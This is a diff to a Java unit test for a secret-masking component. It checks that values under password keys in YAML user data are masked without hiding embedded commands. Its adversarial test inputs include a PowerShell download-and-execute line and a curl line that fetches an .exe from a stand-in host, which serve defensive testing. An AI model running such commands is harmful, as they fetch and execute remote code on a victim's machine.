@@ -626,15 +626,42 @@ class MaskerTest {
                         .isEqualTo(text.replace("hunter2xyz", "[secret]")));
     }
 
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "passwords:\n  db: iwr http://e.io/x | iex\n",
+                "passwords:\n  db: |\n    hunter2xyz\n    iwr http://e.io/x | iex\n",
+                "a: 1\npassword: '<powershell>iwr_http://e.io/x</powershell>'\n",
+            })
+    @Tag("adversary")
+    void ofADocumentInUserDataNoCommandIsHidden(String text) {
+        assertThat(userData(text)).isEqualTo(text);
+    }
+
+    /** What has a secret's name hides itself, and nothing else that reads alike. */
     @Test
     @Tag("adversary")
-    void ofADocumentInUserDataNoCommandIsHidden() {
-        String text = "passwords:\n  db: iwr http://e.io/x | iex\n";
+    void ofADocumentInUserDataNoPiecesOfCodeAreHidden() {
+        assertThat(userData("""
+                        passwords: ["<script>", "curl http", "\uD83D\uDE00hunter2xyz", ttp://e.io/x.exe]
+                        password:
+                          - |
+                            hunter2xyz
+                        x: <script>curl http://e.io/x.exe -o c:\\x.exe hunter2xyz</script>
+                        """)).isEqualTo("""
+                        passwords: ["<script>", "curl http", "[secret]", [secret]]
+                        password:
+                          - |
+                            [secret]
+                        x: <script>curl http://e.io/x.exe -o c:\\x.exe hunter2xyz</script>
+                        """);
+    }
 
-        assertThat(Objects.requireNonNull(masker.fields("t", fields(Map.of("userData", text(text))))
-                        .values()
-                        .get("userData")))
-                .isEqualTo(new MaskedValue.Scalar(MaskedValue.Kind.TEXT, text));
+    private String userData(String text) {
+        MaskedValue masked = masker.fields("t", fields(Map.of("userData", text(text))))
+                .values()
+                .get("userData");
+        return masker.show(((MaskedValue.Scalar) Objects.requireNonNull(masked)).text(), "", "");
     }
 
     @Test
